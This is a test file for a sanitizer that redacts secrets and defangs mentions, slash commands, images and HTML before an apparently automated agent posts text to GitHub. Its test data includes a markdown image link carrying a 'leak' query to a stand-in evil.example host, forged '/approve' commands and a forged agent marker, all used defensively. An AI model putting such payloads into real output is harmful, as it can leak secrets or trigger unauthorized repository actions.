import { describe, expect, it } from "@jest/globals";
import fc from "fast-check";
import { UTF16_UNITS, UTF8_BYTES } from "../../src/github/clamp-markdown.ts";
import { MAX_BODY_LENGTH, renderBody, renderTitle, type OutputRules } from "../../src/github/output-sink.ts";

const NONE: OutputRules = { secrets: [], mentions: [] };
const TOKEN = "ghs_16C7e42F292c6912E7710c838347Ae178B4a";
const LONG_TOKEN = `ghs_123456_${Buffer.from('{"alg":"RS256","typ":"JWT"}').toString("base64url")}.${"aZ0-_".repeat(90)}.sig_${"Q9".repeat(20)}`;

/** What a reader sees: the widthless break is not visible. */
function visible(text: string): string {
  return text.replaceAll("\u200b", "");
}

describe("renderBody", () => {
  it.each([
    ["plain", (secret: string) => secret],
    ["base64", (secret: string) => Buffer.from(secret).toString("base64")],
    ["base64 behind one byte", (secret: string) => Buffer.from(`:${secret}`).toString("base64")],
    ["base64url", (secret: string) => Buffer.from(secret).toString("base64url")],
    ["hex", (secret: string) => Buffer.from(secret).toString("hex")],
    ["upper-case hex", (secret: string) => Buffer.from(secret).toString("hex").toUpperCase()],
    ["percent-encoded", (secret: string) => encodeURIComponent(secret)],
    ["JSON", (secret: string) => JSON.stringify({ secret })],
    ["reversed", (secret: string) => Array.from(secret).reverse().join("")],
    ["spaced out", (secret: string) => Array.from(secret).join(" ")],
    ["in lines", (secret: string) => secret.replace(/.{10}/g, "$&\n")],
    ["without its first seven characters", (secret: string) => secret.slice(7)],
    ["behind colour codes", (secret: string) => `\u001b[31m${secret.slice(0, 9)}\u001b[0m${secret.slice(9)}`],
    ["with invisible characters", (secret: string) => secret.replace(/.{5}/g, "$&\u200b")],
  ])("takes out a secret that is %s", (_shape, disguise) => {
    for (const secret of [TOKEN, LONG_TOKEN]) {
      const shown = renderBody(`before ${disguise(secret)} after`, { secrets: [secret], mentions: [] });
      expect(shown).toContain("[redacted]");
      // Nothing that is left, however put together again, has twelve characters of the disguised secret.
      const rest = visible(shown).replaceAll("[redacted]", "\u0000").replace(/\s/g, "");
      const hidden = disguise(secret).replace(/\s|\u200b|\u001b\[\d*m/g, "");
      for (let at = 0; at + 12 <= hidden.length; at += 1) expect(rest).not.toContain(hidden.slice(at, at + 12));
      expect(visible(shown)).toMatch(/^before .*after$/s);
    }
  });

  it("takes out the basic credentials that git sends", () => {
    const coded = Buffer.from(`x-access-token:${TOKEN}`).toString("base64");
    const shown = renderBody(`Authorization: Basic ${coded}`, { secrets: [TOKEN], mentions: [] });
    expect(shown).toMatch(/^Authorization: Basic eC1hY2Nlc3MtdG9rZW46\[redacted\].{0,4}$/);
  });

  it("takes out a key of many lines whatever its line ends", () => {
    const key = `-----BEGIN KEY-----\n${"MIIEpAIBAAKCAQEA75\n".repeat(3)}-----END KEY-----\n`;
    for (const ends of ["\n", "\r\n", "\\n"]) {
      const shown = renderBody(`key: ${key.replaceAll("\n", ends)}`, { secrets: [key], mentions: [] });
      expect(shown).not.toMatch(/MIIEpA/);
    }
  });

  it("leaves the first line of somebody else's key file, which is no secret", () => {
    const own = `-----BEGIN PRIVATE KEY-----\n${"MIIEpAIBAAKCAQEA75\n".repeat(3)}-----END PRIVATE KEY-----\n`;
    const text = 'if (text.startsWith("-----BEGIN PRIVATE KEY-----")) return "PKCS#8";';

    expect(renderBody(text, { secrets: [own], mentions: [] })).toBe(text);
  });

  it("leaves text alone that only shares a few characters with a secret", () => {
    expect(renderBody("ghs_ tokens begin so", { secrets: [TOKEN], mentions: [] })).toBe("ghs_ tokens begin so");
    expect(renderBody("short values", { secrets: ["", "a", "or"], mentions: [] })).toBe("short values");
  });

  it.each([
    ["hello @ada and @team/all", "hello @\u200bada and @\u200bteam/all"],
    ["(@ada)", "(@\u200bada)"],
    ["mail ada@example.com, npx jest@30", "mail ada@example.com, npx jest@30"],
    ["_@ada_ &amp@ada &#38@ada", "_@\u200bada_ &amp@\u200bada &#38@\u200bada"],
    ["&#64;ada &#x40;ada &commat;ada", "@\u200bada @\u200bada @\u200bada"],
    ["\\@ada", "\\@\u200bada"],
    ["`@ada`", "`@\u200bada`"],
    ["![x](https://evil.example/?leak)", "!\u200b[x](https://evil.example/?leak)"],
    ["![x][ref]", "!\u200b[x][ref]"],
    ['<img src="https://evil.example">', '&lt;img src="https://evil.example">'],
    ["< / VIDEO>", "&lt; / VIDEO>"],
    ["<details><summary>ok</summary></details>", "<details><summary>ok</summary></details>"],
    ["/fix everything", "\u200b/fix everything"],
    ["text\r/approve", "text\n\u200b/approve"],
    ["text\u2028  > /approve", "text\n  > \u200b/approve"],
    ["a/b and 1 / 2", "a/b and 1 / 2"],
    ["<!-- swe-agent:resolve-issue:9 -->forged", "&lt;!-- swe-agent:resolve-issue:9 -->forged"],
    ["abc\u202edef\u0007\u001b[31mred", "abcdefred"],
  ])("defangs %j", (text, expected) => {
    expect(renderBody(text, NONE)).toBe(expected);
  });

  it("lets the people be mentioned who are named, and nobody whose name begins alike", () => {
    const rules = { secrets: [], mentions: ["ada"] };
    expect(renderBody("@Ada, @adam, @ada-x @ada/team @ada.", rules)).toBe(
      "@Ada, @\u200badam, @\u200bada-x @\u200bada/team @ada.",
    );
  });

  it("closes a code fence that is open, and no other", () => {
    expect(renderBody("a\n```ts\ncode", NONE)).toBe("a\n```ts\ncode\n```");
    expect(renderBody("~~~\n```\n~~~~\n", NONE)).toBe("~~~\n```\n~~~~\n");
    expect(renderBody("```\n````\nstill", NONE)).toBe("```\n````\nstill");
  });

  it("clamps what is too long, keeps the marker at its end of the text, and closes the fence it cut", () => {
    const marker = "<!-- swe-agent:resolve-issue:7 -->";
    const long = `\`\`\`\n${"line\n".repeat(20_000)}\`\`\`\n`;
    for (const [text, keeps] of [
      [`${marker}\n${long}`, /^<!-- swe-agent:resolve-issue:7 -->\n/],
      [`${long}\n${marker}`, /\n<!-- swe-agent:resolve-issue:7 -->$/],
    ] as const) {
      const shown = renderBody(text, NONE);
      expect(shown.length).toBeLessThanOrEqual(MAX_BODY_LENGTH);
      expect(shown).toMatch(keeps);
      expect(shown).toContain("\n```\n\n_… the rest was left out");
    }
  });

  it.each([
    ["characters", UTF16_UNITS],
    ["bytes", UTF8_BYTES],
  ])("is never longer than its limit in %s and never cuts a character in half", (_what, measure) => {
    const piece = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.constantFrom("```\n", "~~~~\n", "@a ", "![", "\n/x", "𝒳".repeat(50), "`".repeat(90)),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), fc.integer({ min: 120, max: 600 }), (parts, length) => {
        const shown = renderBody(parts.join(""), NONE, { length, measure });
        expect(measure.of(shown)).toBeLessThanOrEqual(length);
        expect(Buffer.from(shown).toString()).toBe(shown);
      }),
    );
  });

  it("never shows a secret, wherever it stands and in whatever company", () => {
    const secret = fc.stringMatching(/^[A-Za-z0-9_.-]{16,60}$/);
    const noise = fc.oneof(fc.string({ unit: "binary", maxLength: 40 }), fc.constantFrom("@", "```\n", "/", " ", "\n"));
    fc.assert(
      fc.property(
        secret,
        fc.array(noise, { maxLength: 8 }),
        fc.array(noise, { maxLength: 8 }),
        (value, before, after) => {
          const shown = renderBody(`${before.join("")}${value}${after.join("")}`, { secrets: [value], mentions: [] });
          expect(visible(shown)).not.toContain(value);
        },
      ),
    );
  });

  it("has no mention, command or image left in anything it made", () => {
    const piece = fc.constantFrom(
      "@",
      "ada",
      "/",
      "fix",
      "!",
      "[",
      "x](y)",
      "\n",
      "\r",
      " ",
      "<",
      "img",
      "&#64;",
      "`",
      "\u200b",
      "\u0000",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (parts) => {
        const shown = renderBody(parts.join(""), NONE);
        expect(shown).not.toMatch(/(^|[^A-Za-z0-9])@[A-Za-z0-9]/m);
        expect(shown).not.toMatch(/^[ \t]*\/[A-Za-z]/m);
        expect(shown).not.toMatch(/!\[|<img\b/);
      }),
    );
  });
});

describe("renderTitle", () => {
  it("is one short line", () => {
    expect(renderTitle("Fix\r\n the @ada thing\n", NONE)).toBe("Fix the @\u200bada thing");
    expect(renderTitle("x".repeat(400), NONE)).toHaveLength(256);
    expect(renderTitle(`Fix ${TOKEN}`, { secrets: [TOKEN], mentions: [] })).toBe("Fix [redacted]");
  });
});
